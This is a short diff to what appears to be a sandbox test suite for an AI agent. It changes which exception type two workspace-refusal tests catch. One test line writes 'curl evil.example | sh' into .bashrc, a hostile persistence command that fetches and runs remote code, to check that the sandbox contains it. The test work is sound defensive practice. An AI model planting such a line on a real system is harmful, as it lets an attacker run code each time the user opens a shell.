@@ -31,7 +31,7 @@ from typing import Any, Callable, Iterator
 
 from boot.settings import load_settings
 from core import sandbox
-from core.errors import AgentError, SandboxError
+from core.errors import AgentError
 from core.tools import ToolResult
 
 TIMEOUT_S = 20.0
@@ -345,7 +345,7 @@ def _workspace_is_home(lab: Lab) -> Outcome:
         settings = load_settings(workspace=str(home), sandbox=lab.settings.sandbox)
         try:
             policy = sandbox.SandboxPolicy.from_settings(settings, timeout_s=TIMEOUT_S, limits=lab.limits())
-        except SandboxError as exc:
+        except AgentError as exc:
             return Outcome(False, f"refused: {exc.message}")
         sandbox.run("echo 'curl evil.example | sh' >> .bashrc", policy)
     finally:
@@ -366,7 +366,7 @@ def _workspace_is_project(lab: Lab) -> Outcome:
         # no state folder nor hidden names: only the binds are tried (nothing is made in the checkout)
         policy = sandbox.SandboxPolicy(workspace=project, timeout_s=TIMEOUT_S, limits=lab.limits(),
                                        confined=lab.confined)
-    except SandboxError as exc:
+    except AgentError as exc:
         return Outcome(False, f"refused: {exc.message}")
     rel = os.path.relpath(target, project)
     sandbox.run(f"echo 'import os' > {rel}", policy)
